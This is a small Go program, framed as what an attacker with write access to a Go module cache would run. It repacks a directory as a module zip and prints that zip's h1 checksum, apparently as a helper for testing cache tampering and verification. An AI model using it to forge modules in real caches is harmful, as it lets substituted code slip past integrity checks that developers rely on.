// What an attacker with write access to the module cache would run:
//
//	attack rezip DIR MODULE@VERSION ZIP   packs DIR as a module zip
//	attack h1 ZIP                         prints its h1 sum
package main

import (
	"archive/zip"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(args []string) error {
	switch {
	case len(args) == 4 && args[0] == "rezip":
		return rezip(args[1], args[2], args[3])
	case len(args) == 2 && args[0] == "h1":
		return h1(args[1])
	}
	return fmt.Errorf("usage: attack rezip DIR MODULE@VERSION ZIP | attack h1 ZIP")
}

func rezip(dir, prefix, name string) error {
	os.Remove(name)
	file, err := os.Create(name)
	if err != nil {
		return err
	}
	packed := zip.NewWriter(file)
	err = filepath.WalkDir(dir, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		below, err := filepath.Rel(dir, path)
		if err != nil {
			return err
		}
		into, err := packed.Create(prefix + "/" + filepath.ToSlash(below))
		if err != nil {
			return err
		}
		from, err := os.Open(path)
		if err != nil {
			return err
		}
		defer from.Close()
		_, err = io.Copy(into, from)
		return err
	})
	if err != nil {
		return err
	}
	if err := packed.Close(); err != nil {
		return err
	}
	return file.Close()
}

func h1(name string) error {
	packed, err := zip.OpenReader(name)
	if err != nil {
		return err
	}
	defer packed.Close()
	var lines []string
	for _, entry := range packed.File {
		from, err := entry.Open()
		if err != nil {
			return err
		}
		sum := sha256.New()
		_, err = io.Copy(sum, from)
		from.Close()
		if err != nil {
			return err
		}
		lines = append(lines, entry.Name+"\x00"+fmt.Sprintf("%x", sum.Sum(nil)))
	}
	sort.Strings(lines)
	all := sha256.New()
	for _, line := range lines {
		name, sum := line[:len(line)-65], line[len(line)-64:]
		fmt.Fprintf(all, "%s  %s\n", sum, name)
	}
	fmt.Println("h1:" + base64.StdEncoding.EncodeToString(all.Sum(nil)))
	return nil
}
